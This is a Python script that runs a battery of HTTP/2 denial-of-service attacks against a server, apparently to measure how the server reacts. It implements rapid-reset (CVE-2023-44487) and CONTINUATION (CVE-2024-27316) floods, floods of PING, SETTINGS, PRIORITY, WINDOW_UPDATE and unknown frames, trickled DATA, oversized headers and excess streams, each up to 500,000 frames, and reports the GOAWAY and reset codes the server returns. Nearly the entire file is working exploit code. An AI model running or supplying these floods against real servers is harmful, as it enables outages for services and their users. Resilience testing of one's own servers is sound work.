#!/usr/bin/env python3
"""Does to a server of HTTP/2 what costs it more than us, and says how each attempt ended.

Prints a line of JSON for each: how many frames were sent until the server ended the connection, with which code its
GOAWAY came, and how the streams ended that did not get an answer.
"""

import argparse
import collections
import json
import select
import socket
import ssl
import urllib.parse

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hyperframe.frame

# More than the buffers of both sides hold: a busy machine ends the connection only after those are full.
ENOUGH = 500_000


class Attacker:
    """A connection that forgets no manners but those that it is told to."""

    def __init__(self, url, authority, posted="/live/clearkey"):
        place = urllib.parse.urlsplit(url)
        self.host, self.path, self.posted = place.netloc, place.path, posted
        trust = ssl.create_default_context(cafile=authority)
        trust.set_alpn_protocols(["h2"])
        plain = socket.create_connection((place.hostname, place.port), timeout=20)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = trust.wrap_socket(plain, server_hostname=place.hostname)
        assert self.socket.selected_alpn_protocol() == "h2"
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        self.h2.initiate_connection()
        self.sent, self.goaway, self.closed = 0, None, False
        self.endings, self.statuses = collections.Counter(), collections.Counter()

    def request(self, fields=()):
        stream = self.h2.get_next_available_stream_id()
        head = [(":method", "GET"), (":scheme", "https"), (":authority", self.host), (":path", self.path), *fields]
        self.h2.send_headers(stream, head, end_stream=True)
        return stream

    @property
    def posting(self):
        """The head of a request whose body is waited for."""
        return [
            (":method", "POST"),
            (":scheme", "https"),
            (":authority", self.host),
            (":path", self.posted),
            ("content-type", "application/json"),
        ]

    def post(self):
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, self.posting)
        return stream

    def send(self, raw=b""):
        """Sends what is due, and these bytes; takes what has come meanwhile, the last words of the server among it."""
        data = self.h2.data_to_send() + raw
        if not self.closed:
            try:
                self.socket.sendall(data)
            except OSError:
                pass
            self.receive(0)
        self.sent += 1
        return not self.closed and self.goaway is None

    def receive(self, seconds):
        """Takes what comes within so many seconds; nothing more once the server has ended it."""
        while not self.closed and (self.socket.pending() or select.select([self.socket], [], [], seconds)[0]):
            try:
                data = self.socket.recv(65536)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                return
            try:
                self.take(self.h2.receive_data(data))
            except h2.exceptions.ProtocolError:
                # It does not know what it was told to do wrong.
                pass
            if self.goaway is None:
                reply = self.h2.data_to_send()
                if reply:
                    try:
                        self.socket.sendall(reply)
                    except OSError:
                        self.closed = True

    def take(self, events):
        for event in events:
            match event:
                case h2.events.ConnectionTerminated():
                    self.goaway = h2.errors._error_code_from_int(event.error_code)
                case h2.events.StreamReset():
                    self.endings[str(h2.errors._error_code_from_int(event.error_code).name)] += 1
                case h2.events.ResponseReceived():
                    self.statuses[dict(event.headers)[":status"]] += 1

    def finish(self, attack):
        for _ in range(20):
            if self.closed:
                break
            self.receive(0.5)
        self.socket.close()
        print(
            json.dumps(
                {
                    "attack": attack,
                    "sent": self.sent,
                    "goaway": getattr(self.goaway, "name", None),
                    "closed": self.closed,
                    "endings": self.endings,
                    "statuses": self.statuses,
                }
            ),
            flush=True,
        )


def resets(attacker):
    """Asks and takes it back at once (CVE-2023-44487)."""
    while attacker.sent < ENOUGH:
        attacker.h2.reset_stream(attacker.request(), h2.errors.ErrorCodes.CANCEL)
        if not attacker.send():
            return


def pings(attacker):
    while attacker.sent < ENOUGH:
        attacker.h2.ping(attacker.sent.to_bytes(8, "big"))
        if not attacker.send():
            return


def settings(attacker):
    frame = hyperframe.frame.SettingsFrame(settings={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 70_000})
    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
        pass


def priorities(attacker):
    frame = hyperframe.frame.PriorityFrame(stream_id=1, depends_on=0, stream_weight=7)
    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
        pass


def continuations(attacker):
    """A header block that does not end (CVE-2024-27316)."""
    attacker.send()
    frame = hyperframe.frame.HeadersFrame(stream_id=1, data=b"", flags=["END_STREAM"])
    attacker.send(frame.serialize())
    # An indexed field of one byte again and again, which says nothing.
    more = hyperframe.frame.ContinuationFrame(stream_id=1, data=b"\x82" * 16)
    while attacker.sent < ENOUGH and attacker.send(more.serialize()):
        pass


def headers(attacker):
    """A head longer than any (and small on the wire: the table has the field)."""
    attacker.request(fields=[("x-long", "y" * 1000)] * 2000)
    attacker.send()


def empties(attacker):
    """DATA without data, of a request whose body is waited for."""
    stream = attacker.post()
    attacker.send()
    frame = hyperframe.frame.DataFrame(stream_id=stream, data=b"")
    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
        pass


def windows(attacker):
    """Updates of the connection's window, by one."""
    attacker.send()
    frame = hyperframe.frame.WindowUpdateFrame(stream_id=0, window_increment=1)
    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
        pass


def unknown(attacker):
    """Frames of a type that nobody knows."""
    attacker.send()
    while attacker.sent < ENOUGH and attacker.send(b"\0\0\0\xee\0\0\0\0\0"):
        pass


def acknowledgements(attacker):
    """SETTINGS that acknowledge what nobody has sent."""
    attacker.send()
    frame = hyperframe.frame.SettingsFrame(flags=["ACK"])
    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
        pass


def crumbs(attacker):
    """DATA of one byte, of a request whose body is waited for."""
    stream = attacker.post()
    attacker.send()
    frame = hyperframe.frame.DataFrame(stream_id=stream, data=b"x")
    while attacker.sent < ENOUGH and attacker.send(frame.serialize()):
        pass


def streams(attacker):
    """More requests under way than there may be, each without an end."""
    attacker.h2.remote_settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 1 << 30
    head = attacker.h2.encoder
    for number in range(150):
        block = head.encode(attacker.posting)
        frame = hyperframe.frame.HeadersFrame(stream_id=2 * number + 1, data=block, flags=["END_HEADERS"])
        if not attacker.send(frame.serialize()):
            return


ATTACKS = [
    resets,
    pings,
    settings,
    acknowledgements,
    priorities,
    windows,
    unknown,
    continuations,
    headers,
    empties,
    crumbs,
    streams,
]


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("url")
    parser.add_argument("--authority", required=True, help="PEM file of who signs the server's certificate")
    parser.add_argument("--posted", required=True, help="path of what takes a body")
    arguments = parser.parse_args()
    for attack in ATTACKS:
        attacker = Attacker(arguments.url, arguments.authority, arguments.posted)
        attack(attacker)
        attacker.finish(attack.__name__)


if __name__ == "__main__":
    main()
